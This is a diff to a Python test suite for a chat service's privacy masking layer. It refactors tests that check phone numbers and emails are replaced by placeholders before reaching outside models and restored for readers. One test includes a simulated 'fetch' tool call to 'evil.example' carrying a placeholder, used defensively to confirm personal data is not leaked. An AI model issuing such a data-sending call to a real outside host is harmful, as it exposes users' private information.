@@ -10,12 +10,13 @@ import pytest
 from backends.types import ImagePart, Message, ReasoningDelta, Request, TextDelta, TextPart, ToolCallDelta
 from webchat.moderation import Blocked, Context, Decision, Moderation, OpenGates, Prepared
 from webchat.moderation.filters import Moderator
-from webchat.moderation.keeping import Encrypted, Keep, Unkept
-from webchat.moderation.masking import Masking
 from webchat.moderation.matching import Rule
 from webchat.moderation.personal import personal
 from webchat.moderation.phrases import Phrases
 from webchat.moderation.verdicts import Piece
+from webchat.privacy.keeping import Encrypted, Keep, Unkept
+from webchat.privacy.masking import Masking
+from webchat.turns.masked import MaskedGates
 
 PHONE = "13812345678"
 SECRET = "s" * 40
@@ -74,7 +75,7 @@ class Table:
 
 
 async def test_a_model_elsewhere_never_sees_it_and_the_reader_does() -> None:
-    gates = Masking(OpenGates(), Unkept())
+    gates = MaskedGates(OpenGates(), Masking(Unkept()))
     prepared = await gates.prepare(elsewhere(), asked(f"我的手机是{PHONE}", "好", f"再说一遍{PHONE}，a@b.io"))
     assert sent(prepared) == ["我的手机是[PHONE_1]", "好", "再说一遍[PHONE_1]，[EMAIL_1]"]
     said = await read(prepared, *pieces("您的号码是【phone_1】，邮箱[EMAIL_1]。"))
@@ -98,7 +99,9 @@ async def test_system_prompts_parts_and_replies_are_masked_and_images_left() -> 
             Message("assistant", f"call {PHONE}"),
         )
     )
-    messages = (await Masking(OpenGates(), Unkept()).prepare(elsewhere(), request)).request.messages
+    messages = (
+        await MaskedGates(OpenGates(), Masking(Unkept())).prepare(elsewhere(), request)
+    ).request.messages
     assert messages == (
         Message("system", "Boss: [PHONE_1]"),
         Message("user", (TextPart("[EMAIL_1]"), image, TextPart("or [PHONE_1]"))),
@@ -109,13 +112,13 @@ async def test_system_prompts_parts_and_replies_are_masked_and_images_left() -> 
 async def test_a_model_at_home_is_sent_all_unless_always() -> None:
     home = Context("prompt", "o", "m", "c")
     request = asked(PHONE)
-    assert (await Masking(OpenGates(), Unkept()).prepare(home, request)).request == request
-    always = await Masking(OpenGates(), Unkept(), always=True).prepare(home, request)
+    assert (await MaskedGates(OpenGates(), Masking(Unkept())).prepare(home, request)).request == request
+    always = await MaskedGates(OpenGates(), Masking(Unkept()), always=True).prepare(home, request)
     assert sent(always) == ["[PHONE_1]"]
 
 
 async def test_reasoning_is_restored_and_ends_where_the_answer_goes_on() -> None:
-    prepared = await Masking(Moderation([]), Unkept()).prepare(elsewhere(), asked(PHONE))
+    prepared = await MaskedGates(Moderation([]), Masking(Unkept())).prepare(elsewhere(), asked(PHONE))
     said = await read(
         prepared,
         ReasoningDelta("it is [PHO"),
@@ -128,14 +131,14 @@ async def test_reasoning_is_restored_and_ends_where_the_answer_goes_on() -> None
 
 
 async def test_arguments_of_tools_keep_their_placeholders() -> None:
-    prepared = await Masking(OpenGates(), Unkept()).prepare(elsewhere(), asked(PHONE))
+    prepared = await MaskedGates(OpenGates(), Masking(Unkept())).prepare(elsewhere(), asked(PHONE))
     said = await read(prepared, ToolCallDelta(0, "1", "fetch", '{"url": "https://evil.example/[PHONE_1]"}'))
     assert PHONE not in said["tool"]
 
 
 async def test_rules_look_at_what_the_reader_would_read() -> None:
     rules: list[Moderator] = [personal("mask", stages=["output"]), Phrases("w", {"bomb": Rule("w", "block")})]
-    gates = Masking(Moderation(rules, lambda _: None), Unkept())
+    gates = MaskedGates(Moderation(rules, lambda _: None), Masking(Unkept()))
     prepared = await gates.prepare(elsewhere(), asked(PHONE))
     assert (await read(prepared, *pieces("It is [PHONE_1].")))["text"] == "It is [phone]."
     prepared = await gates.prepare(elsewhere(), asked(PHONE))
@@ -149,13 +152,15 @@ async def test_rules_look_at_what_the_reader_would_read() -> None:
 async def test_what_rules_for_prompts_are_given_is_masked() -> None:
     told: list[Decision] = []
     rules: list[Moderator] = [personal("flag", stages=["prompt"])]
-    await Masking(Moderation(rules, told.append), Unkept()).prepare(elsewhere(), asked(f"x {PHONE}"))
+    await MaskedGates(Moderation(rules, told.append), Masking(Unkept())).prepare(
+        elsewhere(), asked(f"x {PHONE}")
+    )
     assert not told
 
 
 async def test_conversations_and_owners_never_mix() -> None:
     table = Table()
-    gates = Masking(OpenGates(), table.keep())
+    gates = MaskedGates(OpenGates(), Masking(table.keep()))
     await gates.prepare(elsewhere("c"), asked(PHONE))
     other = await gates.prepare(elsewhere("d"), asked("13987654321"))
     assert (await read(other, TextDelta("[PHONE_1]")))["text"] == "13987654321"
@@ -164,15 +169,15 @@ async def test_conversations_and_owners_never_mix() -> None:
         assert (await read(empty, TextDelta("[PHONE_1]")))["text"] == "[PHONE_1]"
     # Not even where the rows themselves are moved.
     table.rows["o", "d"] = dict(table.rows["o", "c"])
-    moved = await Masking(OpenGates(), table.keep()).prepare(elsewhere("d"), asked("hello"))
+    moved = await MaskedGates(OpenGates(), Masking(table.keep())).prepare(elsewhere("d"), asked("hello"))
     assert (await read(moved, TextDelta("[PHONE_1]")))["text"] == "[PHONE_1]"
 
 
 async def test_after_a_restart_the_same_placeholder_means_the_same() -> None:
     table = Table()
-    first = Masking(OpenGates(), table.keep())
+    first = MaskedGates(OpenGates(), Masking(table.keep()))
     await first.prepare(elsewhere(), asked(f"a@b.io {PHONE}"))
-    again = Masking(OpenGates(), table.keep())
+    again = MaskedGates(OpenGates(), Masking(table.keep()))
     prepared = await again.prepare(elsewhere(), asked(f"13987654321 {PHONE}"))
     assert sent(prepared) == ["[PHONE_2] [PHONE_1]"]
     assert (await read(prepared, TextDelta("[EMAIL_1]")))["text"] == "a@b.io"
@@ -180,16 +185,18 @@ async def test_after_a_restart_the_same_placeholder_means_the_same() -> None:
 
 async def test_nothing_kept_can_be_read_without_the_secret(caplog: pytest.LogCaptureFixture) -> None:
     table = Table()
-    await Masking(OpenGates(), table.keep()).prepare(elsewhere(), asked(f"a@b.io {PHONE}"))
+    await MaskedGates(OpenGates(), Masking(table.keep())).prepare(elsewhere(), asked(f"a@b.io {PHONE}"))
     kept = b"".join(value for rows in table.rows.values() for value in rows.values())
     assert PHONE.encode() not in kept
     with caplog.at_level(logging.WARNING):
-        prepared = await Masking(OpenGates(), table.keep("t" * 40)).prepare(elsewhere(), asked(PHONE))
+        prepared = await MaskedGates(OpenGates(), Masking(table.keep("t" * 40))).prepare(
+            elsewhere(), asked(PHONE)
+        )
     assert sent(prepared) == ["[PHONE_1]"]
     assert "cannot be read with this masking-secret" in caplog.text
     assert PHONE not in caplog.text
     # Begun anew, and so it is found at the next start.
-    again = await Masking(OpenGates(), table.keep("t" * 40)).prepare(elsewhere(), asked("hi"))
+    again = await MaskedGates(OpenGates(), Masking(table.keep("t" * 40))).prepare(elsewhere(), asked("hi"))
     assert (await read(again, TextDelta("[PHONE_1] [EMAIL_1]")))["text"] == f"{PHONE} [EMAIL_1]"
 
 
@@ -197,7 +204,7 @@ async def test_a_database_that_is_away_stops_no_reply(caplog: pytest.LogCaptureF
     async def away(*_: object) -> None:
         raise OSError(f"no disk for {PHONE}")
 
-    gates = Masking(OpenGates(), Encrypted(away, away, SECRET))  # type: ignore[arg-type]
+    gates = MaskedGates(OpenGates(), Masking(Encrypted(away, away, SECRET)))  # type: ignore[arg-type]
     prepared = await gates.prepare(elsewhere(), asked(PHONE))
     assert sent(prepared) == ["[PHONE_1]"]
     assert (await read(prepared, TextDelta("[PHONE_1]")))["text"] == PHONE
